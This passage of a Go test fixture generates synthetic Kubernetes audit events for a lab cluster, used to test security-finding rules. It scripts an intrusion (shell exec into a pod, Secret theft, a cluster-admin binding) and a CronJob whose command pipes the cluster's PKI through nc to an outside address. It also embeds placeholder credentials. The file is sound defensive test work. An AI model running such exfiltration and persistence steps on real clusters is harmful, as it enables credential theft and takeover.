package standin

import (
	"encoding/base64"
	"encoding/json"
	"fmt"
	"strconv"
	"strings"
	"time"
)

// The third seed cluster: a self-managed Kubernetes cluster whose last day
// holds, among routine traffic, at least one event that fires each rule of
// hss_cluster_audit_findings and near-misses that must not (see
// SeedFindings).
const (
	SeedFindingsClusterID   = "3e9c7a15-6b2d-4f80-9c4e-8a1d5f2b7e63"
	SeedFindingsClusterName = "sec-lab"
	SeedFindingsClusterType = "k8s"
)

// The Secrets sec-lab's events read at RequestResponse level, whose data
// the audit log therefore holds.
const (
	secLabDBUser       = "webapp"
	secLabDBPassword   = "7vq&btR9kWe!2pLz"
	secLabDockerConfig = `{"auths":{"registry.example.com":{"username":"ci-pusher","password":"Hx7pQ2vLm9Rt4Wz8","auth":"Y2ktcHVzaGVyOkh4N3BRMnZMbTlSdDRXejg="}}}`
)

func b64(s string) string { return base64.StdEncoding.EncodeToString([]byte(s)) }

// SeedFindingsSecretData are the data values of the Secrets sec-lab's
// events hold (base64, as a Secret's data holds them): secret material,
// which no finding may hold, encoded or not.
func SeedFindingsSecretData() []string {
	return []string{b64(secLabDBUser), b64(secLabDBPassword), b64(secLabDockerConfig)}
}

var secLabHosts = []seedHost{
	{"0c6f4e2a-8b1d-4f3a-9e7c-5a2d8b6f1e04", "sec-lab-cp-1", "10.0.0.10"},
	{"1d7a5f3b-9c2e-4a4b-8f8d-6b3e9c7a2f15", "sec-lab-cp-2", "10.0.0.11"},
	{"2e8b6a4c-0d3f-4b5c-9a9e-7c4f0d8b3a26", "sec-lab-cp-3", "10.0.0.12"},
}

// labActor is an identity of sec-lab, with the reason the authorizer gives
// for allowing its requests.
type labActor struct {
	actor
	extra  map[string][]string
	reason string
}

const kubeVersion = "v1.30.2 (linux/amd64) kubernetes/3968350"

var (
	labKCM = labActor{actor{"system:kube-controller-manager", "", []string{"system:authenticated"},
		"kube-controller-manager/" + kubeVersion + "/leader-election", "10.0.0.10"}, nil,
		`RBAC: allowed by ClusterRoleBinding "system:kube-controller-manager" of ClusterRole "system:kube-controller-manager" to User "system:kube-controller-manager"`}
	labScheduler = labActor{actor{"system:kube-scheduler", "", []string{"system:authenticated"},
		"kube-scheduler/" + kubeVersion + "/scheduler", "10.0.0.11"}, nil,
		`RBAC: allowed by ClusterRoleBinding "system:kube-scheduler" of ClusterRole "system:kube-scheduler" to User "system:kube-scheduler"`}
	labKubelet = labActor{actor{"system:node:node-1", "", []string{"system:nodes", "system:authenticated"},
		"kubelet/" + kubeVersion, "10.0.1.21"}, nil, ""} // the Node authorizer gives no reason
	labRSController = labActor{actor{"system:serviceaccount:kube-system:replicaset-controller", "6a0b2c4d-8e1f-4a3b-9c5d-7e9f1a3b5c70",
		[]string{"system:serviceaccounts", "system:serviceaccounts:kube-system", "system:authenticated"},
		"kube-controller-manager/" + kubeVersion + "/system:serviceaccount:kube-system:replicaset-controller", "10.0.0.10"}, nil,
		`RBAC: allowed by ClusterRoleBinding "system:controller:replicaset-controller" of ClusterRole "system:controller:replicaset-controller" to ServiceAccount "replicaset-controller/kube-system"`}
	labDSController = labActor{actor{"system:serviceaccount:kube-system:daemon-set-controller", "7b1c3d5e-9f2a-4b4c-8d6e-8f0a2b4c6d81",
		[]string{"system:serviceaccounts", "system:serviceaccounts:kube-system", "system:authenticated"},
		"kube-controller-manager/" + kubeVersion + "/system:serviceaccount:kube-system:daemon-set-controller", "10.0.0.10"}, nil,
		`RBAC: allowed by ClusterRoleBinding "system:controller:daemon-set-controller" of ClusterRole "system:controller:daemon-set-controller" to ServiceAccount "daemon-set-controller/kube-system"`}
	labCI = labActor{ciDeployer, nil,
		`RBAC: allowed by RoleBinding "ci-deployer/web" of ClusterRole "edit" to ServiceAccount "deployer/ci"`}
	labDave = labActor{actor{"dave@example.com", "c2d4e6f8-0a1b-4c3d-8e5f-7a9b1c3d5e08", []string{"sre", "system:authenticated"},
		"kubectl/v1.30.2 (darwin/arm64) kubernetes/3968350", "203.0.113.40"}, nil,
		`RBAC: allowed by ClusterRoleBinding "sre-admins" of ClusterRole "cluster-admin" to Group "sre"`}
	labErin = labActor{actor{"erin@example.com", "d3e5f7a9-1b2c-4d4e-9f6a-8b0c2d4e6f19", []string{"dev", "system:authenticated"},
		"kubectl/v1.31.1 (linux/amd64) kubernetes/948afe5", "203.0.113.61"}, nil,
		`RBAC: allowed by RoleBinding "developers/web" of ClusterRole "edit" to Group "dev"`}
	// mallory's credentials, used from an address the team does not know.
	labMallory = labActor{actor{"mallory@example.com", "e4f6a8b0-2c3d-4e5f-8a7b-9c1d3e5f7a20", []string{"platform", "system:authenticated"},
		"kubectl/v1.29.0 (linux/amd64) kubernetes/3f7a50f", "198.51.100.23"}, nil,
		`RBAC: allowed by ClusterRoleBinding "platform-team" of ClusterRole "platform-admin" to Group "platform"`}
	// The web front end's service-account token, used with curl from inside
	// its pod.
	labWebSA = labActor{actor{"system:serviceaccount:web:web-frontend", "f5a7b9c1-3d4e-4f6a-9b8c-0d2e4f6a8b31",
		[]string{"system:serviceaccounts", "system:serviceaccounts:web", "system:authenticated"}, "curl/8.5.0", "10.244.1.23"},
		map[string][]string{
			"authentication.kubernetes.io/credential-id": {"JTI=2c9e4b7a-5d1f-4e8a-b3c6-9f0d2e4a6b18"},
			"authentication.kubernetes.io/node-name":     {"node-1"},
			"authentication.kubernetes.io/pod-name":      {"web-frontend-7c9d8f6b5-x4k2p"},
			"authentication.kubernetes.io/pod-uid":       {"9a1b3c5d-7e8f-4a0b-8c2d-4e6f8a0b2c45"},
		},
		`RBAC: allowed by RoleBinding "web-frontend/web" of Role "web-frontend" to ServiceAccount "web-frontend/web"`}
	// The service account mallory bound to cluster-admin, used with the
	// token she requested for it.
	labBackupSA = labActor{actor{"system:serviceaccount:default:backup-operator", "a6b8c0d2-4e5f-4a7b-8c9d-1e3f5a7b9c42",
		[]string{"system:serviceaccounts", "system:serviceaccounts:default", "system:authenticated"},
		"kubectl/v1.29.0 (linux/amd64) kubernetes/3f7a50f", "198.51.100.23"}, nil,
		`RBAC: allowed by ClusterRoleBinding "backup-operator" of ClusterRole "cluster-admin" to ServiceAccount "backup-operator/default"`}
	labLBProbe = labActor{actor{"system:anonymous", "", []string{"system:unauthenticated"}, "Go-http-client/1.1", "10.0.0.5"}, nil,
		`RBAC: allowed by ClusterRoleBinding "system:public-info-viewer" of ClusterRole "system:public-info-viewer" to Group "system:unauthenticated"`}
	labScanner = labActor{actor{"system:anonymous", "", []string{"system:unauthenticated"}, "Mozilla/5.0 zgrab/0.x", "192.0.2.66"}, nil, ""}
)

// labEvent is one record of sec-lab: an audit event, or text (free text, a
// malformed event) standing for the whole content.
type labEvent struct {
	ago   time.Duration // before now, when the record was written (stageTimestamp)
	host  int
	text  string
	id    string // auditID
	stage string // "" is ResponseComplete
	level string // "" is Metadata
	who   labActor
	verb  string
	uri   string
	ref   *auditObjectRef
	code  int           // responseStatus.code (none at RequestReceived)
	msg   string        // responseStatus.message of a failure
	took  time.Duration // since requestReceivedTimestamp; a few ms when 0
	// body is a create's object, sent as the requestObject and stored
	// (with uid, resourceVersion, creationTimestamp, and name for a
	// generateName create) as the responseObject. req and resp are the
	// bodies of other requests, as they are.
	body, req, resp string
	name            string // the name the server gave a generateName create
	// dupVerb, when set, repeats the event's verb key with this value: a
	// record that claims to be an audit event and is malformed.
	dupVerb string
}

// storedMark is where body's metadata takes the fields the API server
// sets; klogTime is where a log line takes its record's time.
const (
	storedMark = "{{stored}}"
	klogTime   = "{{klog time}}"
)

func labRef(group, resource, ns, name, sub string) *auditObjectRef {
	return &auditObjectRef{Resource: resource, Namespace: ns, Name: name, APIGroup: group, APIVersion: "v1", Subresource: sub}
}

// labStatus is responseStatus, with a failure's fields.
type labStatus struct {
	Metadata struct{} `json:"metadata"`
	Status   string   `json:"status,omitempty"`
	Message  string   `json:"message,omitempty"`
	Reason   string   `json:"reason,omitempty"`
	Code     int      `json:"code"`
}

type labUser struct {
	Username string              `json:"username"`
	UID      string              `json:"uid,omitempty"`
	Groups   []string            `json:"groups,omitempty"`
	Extra    map[string][]string `json:"extra,omitempty"`
}

// labAuditEvent is an audit.k8s.io/v1 Event with the fields kube-apiserver
// writes, in its order.
type labAuditEvent struct {
	Kind                     string            `json:"kind"`
	APIVersion               string            `json:"apiVersion"`
	Level                    string            `json:"level"`
	AuditID                  string            `json:"auditID"`
	Stage                    string            `json:"stage"`
	RequestURI               string            `json:"requestURI"`
	Verb                     string            `json:"verb"`
	User                     labUser           `json:"user"`
	SourceIPs                []string          `json:"sourceIPs"`
	UserAgent                string            `json:"userAgent,omitempty"`
	ObjectRef                *auditObjectRef   `json:"objectRef,omitempty"`
	ResponseStatus           *labStatus        `json:"responseStatus,omitempty"`
	RequestObject            json.RawMessage   `json:"requestObject,omitempty"`
	ResponseObject           json.RawMessage   `json:"responseObject,omitempty"`
	RequestReceivedTimestamp string            `json:"requestReceivedTimestamp"`
	StageTimestamp           string            `json:"stageTimestamp"`
	Annotations              map[string]string `json:"annotations,omitempty"`
}

func (e labEvent) render(t time.Time, i int) string {
	took := e.took
	if took == 0 {
		took = time.Duration(3+i%9) * time.Millisecond
	}
	stage := e.stage
	if stage == "" {
		stage = "ResponseComplete"
	}
	level := e.level
	if level == "" {
		level = "Metadata"
	}
	ev := labAuditEvent{
		Kind: "Event", APIVersion: "audit.k8s.io/v1", Level: level, AuditID: e.id, Stage: stage,
		RequestURI: e.uri, Verb: e.verb,
		User:      labUser{Username: e.who.name, UID: e.who.uid, Groups: e.who.groups, Extra: e.who.extra},
		SourceIPs: []string{e.who.ip}, UserAgent: e.who.agent, ObjectRef: e.ref,
		RequestReceivedTimestamp: t.Add(-took).UTC().Format(microRFC3339),
		StageTimestamp:           t.UTC().Format(microRFC3339),
	}
	if stage == "RequestReceived" {
		// Audited before the request is authorized or its body read.
		ev.RequestReceivedTimestamp = ev.StageTimestamp
	} else {
		ev.ResponseStatus = &labStatus{Code: e.code}
		decision, reason := "allow", e.who.reason
		if e.code == 401 || e.code == 403 {
			decision, reason = "forbid", ""
			ev.ResponseStatus.Status, ev.ResponseStatus.Message, ev.ResponseStatus.Reason = "Failure", e.msg, "Forbidden"
		}
		ev.Annotations = map[string]string{"authorization.k8s.io/decision": decision, "authorization.k8s.io/reason": reason}
		req, resp := e.req, e.resp
		if e.body != "" {
			req, resp = strings.Replace(e.body, storedMark, "", 1), strings.Replace(e.body, storedMark, e.stored(t), 1)
		}
		if level == "RequestResponse" {
			ev.RequestObject, ev.ResponseObject = rawBody(req), rawBody(resp)
		}
	}
	out, err := json.Marshal(ev)
	if err != nil {
		panic("standin: sec-lab event " + e.id + ": " + err.Error()) // a body that is not JSON: a bug of the table
	}
	s := string(out)
	if e.dupVerb != "" {
		s = strings.Replace(s, `,"sourceIPs":`, `,"verb":`+strconv.Quote(e.dupVerb)+`,"sourceIPs":`, 1)
	}
	return s
}

// stored is what the API server adds to a created object's metadata.
func (e labEvent) stored(t time.Time) string {
	s := fmt.Sprintf(`,"uid":%q,"resourceVersion":%q,"creationTimestamp":%q`,
		uuidFrom(e.id+"/object"), strconv.FormatInt(t.Unix()%10_000_000+3_000_000, 10), t.UTC().Format(time.RFC3339))
	if e.name != "" {
		s = fmt.Sprintf(`,"name":%q`, e.name) + s
	}
	return s
}

func rawBody(s string) json.RawMessage {
	if s == "" {
		return nil
	}
	return json.RawMessage(s)
}

const (
	minute = time.Minute
	second = time.Second
)

// secLabDay is sec-lab's last day, oldest first. Its audit policy logs
// Secrets, and creates, updates and patches of pods, workloads and RBAC,
// at RequestResponse; everything else at Metadata.
func secLabDay(now time.Time) []labEvent {
	ts := func(d time.Duration) string { return now.Add(-d).UTC().Format(time.RFC3339) }
	secret := func(ns, name, typ string, data map[string]string, kind bool) string {
		d, _ := json.Marshal(data)
		s := fmt.Sprintf(`"metadata":{"name":%q,"namespace":%q,"uid":%q,"resourceVersion":"2914077","creationTimestamp":%q},"data":%s,"type":%q}`,
			name, ns, uuidFrom("sec-lab/secret/"+ns+"/"+name), ts(41*24*hour), d, typ)
		if kind {
			return `{"kind":"Secret","apiVersion":"v1",` + s
		}
		return "{" + s
	}
	dbData := map[string]string{"username": b64(secLabDBUser), "password": b64(secLabDBPassword)}
	dbSecret := secret("web", "web-db-credentials", "Opaque", dbData, true)
	dbSecretItem := secret("web", "web-db-credentials", "Opaque", dbData, false)
	registrySecret := secret("ci", "registry-push", "kubernetes.io/dockerconfigjson", map[string]string{".dockerconfigjson": b64(secLabDockerConfig)}, true)
	owner := func(kind, name, uid string) string {
		return fmt.Sprintf(`"ownerReferences":[{"apiVersion":"apps/v1","kind":%q,"name":%q,"uid":%q,"controller":true,"blockOwnerDeletion":true}]`, kind, name, uid)
	}
	const (
		webPod    = "web-frontend-7c9d8f6b5-x4k2p"
		webPodURI = "/api/v1/namespaces/web/pods/" + webPod
		rbacAPI   = "/apis/rbac.authorization.k8s.io/v1"
		created   = "?fieldManager=kubectl-create&fieldValidation=Strict"
		applied   = "?fieldManager=kubectl-client-side-apply&fieldValidation=Strict"
		rbac      = "rbac.authorization.k8s.io"
	)
	return []labEvent{
		// Leader election: a lease in kube-system, by the control plane.
		{ago: 23*hour + 40*minute + 12*second, host: 0, id: "8f53bfd1-57b8-4818-b0b1-4a1a237bc426", who: labKCM, verb: "update",
			uri: "/apis/coordination.k8s.io/v1/namespaces/kube-system/leases/kube-controller-manager?timeout=5s",
			ref: labRef("coordination.k8s.io", "leases", "kube-system", "kube-controller-manager", ""), code: 200},
		// The load balancer's health check, unauthenticated.
		{ago: 23*hour + 10*minute + 3*second, host: 1, id: "88997ee9-ae29-4359-a4b0-f4b9ec06acf8", who: labLBProbe, verb: "get", uri: "/healthz", code: 200},
		// A pod of the web front end scheduled and started.
		{ago: 22*hour + 30*minute, host: 0, id: "47192a5f-94e1-41a1-86fa-739a3ab378d8", level: "RequestResponse", who: labRSController, verb: "create",
			uri: "/api/v1/namespaces/web/pods", ref: labRef("", "pods", "web", "", ""), code: 201, name: webPod,
			body: `{"kind":"Pod","apiVersion":"v1","metadata":{"generateName":"web-frontend-7c9d8f6b5-","namespace":"web"` + storedMark +
				`,"labels":{"app":"web-frontend","pod-template-hash":"7c9d8f6b5"},` + owner("ReplicaSet", "web-frontend-7c9d8f6b5", "4f2a9c7e-1b3d-4e5f-8a6b-9c0d1e2f3a4b") +
				`},"spec":{"containers":[{"name":"web","image":"registry.example.com/web/frontend:2.14.0","ports":[{"containerPort":8080,"protocol":"TCP"}],` +
				`"resources":{"limits":{"memory":"256Mi"},"requests":{"cpu":"100m","memory":"128Mi"}},` +
				`"securityContext":{"allowPrivilegeEscalation":false,"runAsNonRoot":true,"capabilities":{"drop":["ALL"]}}}],"serviceAccountName":"web-frontend"}}`},
		{ago: 22*hour + 29*minute + 58*second, host: 1, id: "5f05093f-7738-41ee-b4ad-93e9b902d462", who: labScheduler, verb: "create",
			uri: webPodURI + "/binding", ref: labRef("", "pods", "web", webPod, "binding"), code: 201},
		// The kubelet: the pod's projected token and its Secret.
		{ago: 22*hour + 29*minute + 55*second, host: 2, id: "19a1beb3-7a68-4a9a-95a2-ba160baada41", who: labKubelet, verb: "create",
			uri: "/api/v1/namespaces/web/serviceaccounts/web-frontend/token", ref: labRef("", "serviceaccounts", "web", "web-frontend", "token"), code: 201},
		{ago: 22*hour + 29*minute + 54*second, host: 2, id: "d88dfeb1-9888-42e0-9197-cf69846b1ace", level: "RequestResponse", who: labKubelet, verb: "list",
			uri: "/api/v1/namespaces/web/secrets?fieldSelector=metadata.name%3Dweb-db-credentials&limit=500&resourceVersion=0",
			ref: labRef("", "secrets", "web", "", ""), code: 200,
			resp: `{"kind":"SecretList","apiVersion":"v1","metadata":{"resourceVersion":"3107422"},"items":[` + dbSecretItem + `]}`},
		{ago: 22*hour + 29*minute + 45*second, host: 2, id: "ce2d9d81-717b-4f63-94af-9407ee921a6b", who: labKubelet, verb: "patch",
			uri: webPodURI + "/status", ref: labRef("", "pods", "web", webPod, "status"), code: 200},
		// The CI robot deploys a new image, then reads the registry's credentials.
		{ago: 20*hour + 40*minute + 31*second, host: 1, id: "f39d9b26-ef75-4d95-88ed-1bdf5e365994", level: "RequestResponse", who: labCI, verb: "patch",
			uri: "/apis/apps/v1/namespaces/web/deployments/web-frontend?fieldManager=deployer", ref: labRef("apps", "deployments", "web", "web-frontend", ""), code: 200,
			req: `{"spec":{"template":{"spec":{"containers":[{"name":"web","image":"registry.example.com/web/frontend:2.14.1"}]}}}}`,
			resp: fmt.Sprintf(`{"kind":"Deployment","apiVersion":"apps/v1","metadata":{"name":"web-frontend","namespace":"web","uid":"3c8e1a5f-7b2d-4c9e-a0f4-6d2b8e4a1c37",`+
				`"resourceVersion":"3109876","generation":42,"creationTimestamp":%q,"labels":{"app":"web-frontend"}},"spec":{"replicas":3,`+
				`"selector":{"matchLabels":{"app":"web-frontend"}},"template":{"metadata":{"labels":{"app":"web-frontend"}},"spec":{"containers":[{"name":"web",`+
				`"image":"registry.example.com/web/frontend:2.14.1","ports":[{"containerPort":8080,"protocol":"TCP"}],`+
				`"securityContext":{"allowPrivilegeEscalation":false,"runAsNonRoot":true,"capabilities":{"drop":["ALL"]}}}],"serviceAccountName":"web-frontend"}}}}`, ts(41*24*hour))},
		{ago: 19*hour + 50*minute + 8*second, host: 2, id: "c97398d2-3328-447d-9ce8-c1924bee8390", level: "RequestResponse",
			who:  labActor{ciDeployer, nil, `RBAC: allowed by RoleBinding "registry-reader/ci" of Role "registry-reader" to ServiceAccount "deployer/ci"`},
			verb: "get", uri: "/api/v1/namespaces/ci/secrets/registry-push", ref: labRef("", "secrets", "ci", "registry-push", ""), code: 200, resp: registrySecret},
		// A node joined: its CNI pod (privileged, of an image exempt by
		// trusted_images) and its log shipper (hostPath /var/log).
		{ago: 19*hour + 20*minute + 44*second, host: 0, id: "624b9eda-d9c8-4fd4-b018-64e2ca369a0d", level: "RequestResponse", who: labDSController, verb: "create",
			uri: "/api/v1/namespaces/calico-system/pods", ref: labRef("", "pods", "calico-system", "", ""), code: 201, name: "calico-node-7xk2p",
			body: `{"kind":"Pod","apiVersion":"v1","metadata":{"generateName":"calico-node-","namespace":"calico-system"` + storedMark +
				`,"labels":{"k8s-app":"calico-node"},` + owner("DaemonSet", "calico-node", "5d3b0f8a-2c4e-4a6b-9d1f-7e3a5c9b0d48") +
				`},"spec":{"containers":[{"name":"calico-node","image":"registry.example.com/cni/calico-node:v3.27.3","securityContext":{"privileged":true},` +
				`"volumeMounts":[{"name":"var-run-calico","mountPath":"/var/run/calico"},{"name":"var-lib-calico","mountPath":"/var/lib/calico"},` +
				`{"name":"lib-modules","mountPath":"/lib/modules","readOnly":true}]}],"volumes":[{"name":"var-run-calico","hostPath":{"path":"/var/run/calico","type":""}},` +
				`{"name":"var-lib-calico","hostPath":{"path":"/var/lib/calico","type":""}},{"name":"lib-modules","hostPath":{"path":"/lib/modules","type":""}}],` +
				`"serviceAccountName":"calico-node","priorityClassName":"system-node-critical"}}`},
		{ago: 18*hour + 45*minute + 17*second, host: 0, id: "245e16a8-28b6-455e-a155-2bde2e2b73e3", level: "RequestResponse", who: labDSController, verb: "create",
			uri: "/api/v1/namespaces/logging/pods", ref: labRef("", "pods", "logging", "", ""), code: 201, name: "fluent-bit-9d4wq",
			body: `{"kind":"Pod","apiVersion":"v1","metadata":{"generateName":"fluent-bit-","namespace":"logging"` + storedMark +
				`,"labels":{"app.kubernetes.io/name":"fluent-bit"},` + owner("DaemonSet", "fluent-bit", "6e4c1a9b-3d5f-4b7c-8e2a-8f4b6d0c1e59") +
				`},"spec":{"containers":[{"name":"fluent-bit","image":"cr.fluentbit.io/fluent/fluent-bit:3.0.7",` +
				`"volumeMounts":[{"name":"varlog","mountPath":"/var/log","readOnly":true}]}],"volumes":[{"name":"varlog","hostPath":{"path":"/var/log","type":""}}],` +
				`"serviceAccountName":"fluent-bit"}}`},
		// An event exporter's line: JSON, a Kubernetes Event, not an audit event.
		{ago: 18*hour + 10*minute + 2*second, host: 1, text: fmt.Sprintf(`{"kind":"Event","apiVersion":"v1","metadata":{"name":"%s.17c3a2b4d5e6f708","namespace":"web"},`+
			`"involvedObject":{"kind":"Pod","namespace":"web","name":"%s"},"reason":"BackOff","message":"Back-off restarting failed container web in pod %s_web",`+
			`"type":"Warning","count":3,"lastTimestamp":%q}`, webPod, webPod, webPod, ts(18*hour+10*minute+2*second))},
		// A developer looks into the front end, debugs it, and reaches the database.
		{ago: 17*hour + 30*minute + 9*second, host: 2, id: "7ef73265-addf-4905-bbd2-84a36af81bf7", who: labErin, verb: "list",
			uri: "/api/v1/namespaces/web/pods?limit=500", ref: labRef("", "pods", "web", "", ""), code: 200},
		{ago: 17*hour + 25*minute + 40*second, host: 0, id: "f50205c1-ad32-44fa-a52e-8e8f45507bca", who: labErin, verb: "get",
			uri: webPodURI + "/log?container=web&tailLines=200", ref: labRef("", "pods", "web", webPod, "log"), code: 200},
		{ago: 16*hour + 20*minute + 13*second, host: 1, id: "b5c21a0e-cc7d-45a0-9497-b2d9a8474a33", level: "RequestResponse", who: labErin, verb: "create",
			uri: "/api/v1/namespaces/web/pods" + applied, ref: labRef("", "pods", "web", "debug-erin", ""), code: 201,
			body: `{"kind":"Pod","apiVersion":"v1","metadata":{"name":"debug-erin","namespace":"web"` + storedMark + `},"spec":{"shareProcessNamespace":true,` +
				`"hostNetwork":false,"containers":[{"name":"debug","image":"busybox:1.36","command":["sleep","3600"],"securityContext":{"privileged":false}}],` +
				`"restartPolicy":"Never"}}`},
		// kubectl port-forward over WebSocket: audited as get, at the session's end.
		{ago: 15*hour + 40*minute + 27*second, host: 2, id: "eb4b9faa-6660-4806-b825-559954ecd007", who: labErin, verb: "get",
			uri: "/api/v1/namespaces/web/pods/web-db-0/portforward", ref: labRef("", "pods", "web", "web-db-0", "portforward"), code: 101, took: 25 * minute},
		// The SRE grants: a reader Role, a binding to view, and an on-call Role with *.
		{ago: 14*hour + 50*minute + 5*second, host: 0, id: "8114d433-ad29-4915-96dd-6708f37e6954", level: "RequestResponse", who: labDave, verb: "create",
			uri: rbacAPI + "/namespaces/web/roles" + created, ref: labRef(rbac, "roles", "web", "pod-reader", ""), code: 201,
			body: `{"kind":"Role","apiVersion":"rbac.authorization.k8s.io/v1","metadata":{"name":"pod-reader","namespace":"web"` + storedMark + `},` +
				`"rules":[{"verbs":["get","list","watch"],"apiGroups":[""],"resources":["pods","pods/log"]}]}`},
		{ago: 14*hour + 48*minute + 51*second, host: 0, id: "8dff43f1-f694-49eb-aeac-7c561935ef79", level: "RequestResponse", who: labDave, verb: "create",
			uri: rbacAPI + "/namespaces/web/rolebindings" + created, ref: labRef(rbac, "rolebindings", "web", "erin-view", ""), code: 201,
			body: `{"kind":"RoleBinding","apiVersion":"rbac.authorization.k8s.io/v1","metadata":{"name":"erin-view","namespace":"web"` + storedMark + `},` +
				`"subjects":[{"kind":"User","apiGroup":"rbac.authorization.k8s.io","name":"erin@example.com"}],` +
				`"roleRef":{"apiGroup":"rbac.authorization.k8s.io","kind":"ClusterRole","name":"view"}}`},
		{ago: 14*hour + 30*minute + 36*second, host: 1, id: "6e4b5107-3280-4200-9ee6-0c5aef4d7c4f", level: "RequestResponse", who: labDave, verb: "create",
			uri: rbacAPI + "/namespaces/web/roles" + created, ref: labRef(rbac, "roles", "web", "web-oncall", ""), code: 201,
			body: `{"kind":"Role","apiVersion":"rbac.authorization.k8s.io/v1","metadata":{"name":"web-oncall","namespace":"web"` + storedMark + `},` +
				`"rules":[{"verbs":["*"],"apiGroups":["","apps"],"resources":["pods","pods/exec","deployments"]}]}`},
		// The SRE reads CoreDNS's configuration, then edits it.
		{ago: 13*hour + 10*minute + 22*second, host: 2, id: "320d695d-8fb7-4d38-9885-1ab2945cc06e", who: labDave, verb: "get",
			uri: "/api/v1/namespaces/kube-system/configmaps/coredns", ref: labRef("", "configmaps", "kube-system", "coredns", ""), code: 200},
		{ago: 13*hour + 5*minute + 48*second, host: 2, id: "9c011127-b7e4-4299-be89-473b9e1b3af1", who: labDave, verb: "patch",
			uri: "/api/v1/namespaces/kube-system/configmaps/coredns?fieldManager=kubectl-edit", ref: labRef("", "configmaps", "kube-system", "coredns", ""), code: 200},
		{ago: 12*hour + 5*minute + 19*second, host: 1, id: "6782da72-7d39-4524-a268-6e95c21db974",
			who:  labActor{actor{labScheduler.name, "", labScheduler.groups, "kube-scheduler/" + kubeVersion + "/leader-election", "10.0.0.11"}, nil, labScheduler.reason},
			verb: "update", uri: "/apis/coordination.k8s.io/v1/namespaces/kube-system/leases/kube-scheduler?timeout=5s",
			ref: labRef("coordination.k8s.io", "leases", "kube-system", "kube-scheduler", ""), code: 200},
		// The CI robot runs the database migration in the front end's pod.
		{ago: 11*hour + 0*minute + 50*second, host: 0, id: "2a80d01e-f40f-4b8f-b2da-76a40b13f767", who: labCI, verb: "create",
			uri: webPodURI + "/exec?command=bin%2Fmigrate&command=--apply&container=web&stderr=true&stdout=true", ref: labRef("", "pods", "web", webPod, "exec"),
			code: 101, took: 8 * second},
		// An Internet scanner, unauthenticated, refused.
		{ago: 9*hour + 12*minute + 6*second, host: 1, id: "d76851fc-ddac-4da5-b21b-4be90b174673", who: labScanner, verb: "list",
			uri: "/api/v1/pods?limit=500", ref: labRef("", "pods", "", "", ""), code: 403,
			msg: `pods is forbidden: User "system:anonymous" cannot list resource "pods" in API group "" at the cluster scope`},
		// mallory's credentials at work: the Secrets (refused), the pods, an
		// exec into the front end, from which its token reads the database's
		// Secret.
		{ago: 8*hour + 0*minute + 14*second, host: 2, id: "2afe6c07-75f6-4550-9768-a2f0a53cbb07", level: "RequestResponse", who: labMallory, verb: "list",
			uri: "/api/v1/secrets?limit=500", ref: labRef("", "secrets", "", "", ""), code: 403,
			msg: `secrets is forbidden: User "mallory@example.com" cannot list resource "secrets" in API group "" at the cluster scope`},
		{ago: 7*hour + 55*minute + 3*second, host: 2, id: "398e3b42-023b-4cc1-9be0-b3debafc925a", who: labMallory, verb: "list",
			uri: "/api/v1/namespaces/web/pods?limit=500", ref: labRef("", "pods", "web", "", ""), code: 200},
		{ago: 7*hour + 50*minute + 29*second, host: 0, id: "f6503607-1816-474f-834e-87521f7753e4", stage: "RequestReceived", who: labMallory, verb: "create",
			uri: webPodURI + "/exec?command=sh&container=web&stdin=true&stdout=true&tty=true", ref: labRef("", "pods", "web", webPod, "exec")},
		{ago: 7*hour + 44*minute + 11*second, host: 1, id: "7e71c46d-f940-483b-9345-b53182e9b903", level: "RequestResponse", who: labWebSA, verb: "get",
			uri: "/api/v1/namespaces/web/secrets/web-db-credentials", ref: labRef("", "secrets", "web", "web-db-credentials", ""), code: 200, resp: dbSecret},
		{ago: 7*hour + 38*minute + 2*second, host: 0, id: "f6503607-1816-474f-834e-87521f7753e4", who: labMallory, verb: "create",
			uri: webPodURI + "/exec?command=sh&container=web&stdin=true&stdout=true&tty=true", ref: labRef("", "pods", "web", webPod, "exec"),
			code: 101, took: 12*minute + 27*second},
		// Persistence: a service account bound to cluster-admin, a token for it.
		{ago: 6*hour + 30*minute + 40*second, host: 2, id: "ad2a115c-f761-4bee-8cd4-bb0431f12104", who: labMallory, verb: "create",
			uri: "/api/v1/namespaces/default/serviceaccounts" + created, ref: labRef("", "serviceaccounts", "default", "backup-operator", ""), code: 201},
		{ago: 6*hour + 28*minute + 15*second, host: 2, id: "862e3903-7fb1-4a96-a8ed-89ef83ebc740", level: "RequestResponse", who: labMallory, verb: "create",
			uri: rbacAPI + "/clusterrolebindings" + created, ref: labRef(rbac, "clusterrolebindings", "", "backup-operator", ""), code: 201,
			body: `{"kind":"ClusterRoleBinding","apiVersion":"rbac.authorization.k8s.io/v1","metadata":{"name":"backup-operator"` + storedMark + `},` +
				`"subjects":[{"kind":"ServiceAccount","name":"backup-operator","namespace":"default"}],` +
				`"roleRef":{"apiGroup":"rbac.authorization.k8s.io","kind":"ClusterRole","name":"cluster-admin"}}`},
		{ago: 6*hour + 25*minute + 33*second, host: 0, id: "abd7021e-94c7-4c5d-894a-abecd06fbb14", who: labMallory, verb: "create",
			uri: "/api/v1/namespaces/default/serviceaccounts/backup-operator/token", ref: labRef("", "serviceaccounts", "default", "backup-operator", "token"), code: 201},
		// The new service account's pods: on the host's network, with the
		// cluster's PKI mounted, and a privileged miner on every node (its
		// image close to the exempt CNI images, not one of them).
		{ago: 5*hour + 50*minute + 9*second, host: 1, id: "139e67c8-db5c-4945-86f6-cf055d7bf0f7", level: "RequestResponse", who: labBackupSA, verb: "create",
			uri: "/api/v1/namespaces/default/pods?fieldManager=kubectl-run", ref: labRef("", "pods", "default", "netshoot", ""), code: 201,
			body: `{"kind":"Pod","apiVersion":"v1","metadata":{"name":"netshoot","namespace":"default"` + storedMark + `},"spec":{"hostNetwork":true,` +
				`"containers":[{"name":"netshoot","image":"nicolaka/netshoot:v0.12","command":["sleep","infinity"]}],"serviceAccountName":"backup-operator"}}`},
		{ago: 5*hour + 30*minute + 57*second, host: 2, id: "df94ee41-bb7e-44ce-83a3-320f570a3625", level: "RequestResponse", who: labBackupSA, verb: "create",
			uri: "/apis/batch/v1/namespaces/default/cronjobs" + applied, ref: labRef("batch", "cronjobs", "default", "etcd-backup", ""), code: 201,
			body: `{"kind":"CronJob","apiVersion":"batch/v1","metadata":{"name":"etcd-backup","namespace":"default"` + storedMark + `},"spec":{"schedule":"*/30 * * * *",` +
				`"jobTemplate":{"spec":{"template":{"spec":{"containers":[{"name":"backup","image":"alpine:3.19",` +
				`"command":["sh","-c","tar czf - /host/pki | nc 198.51.100.23 4444"],"volumeMounts":[{"name":"pki","mountPath":"/host/pki","readOnly":true}]}],` +
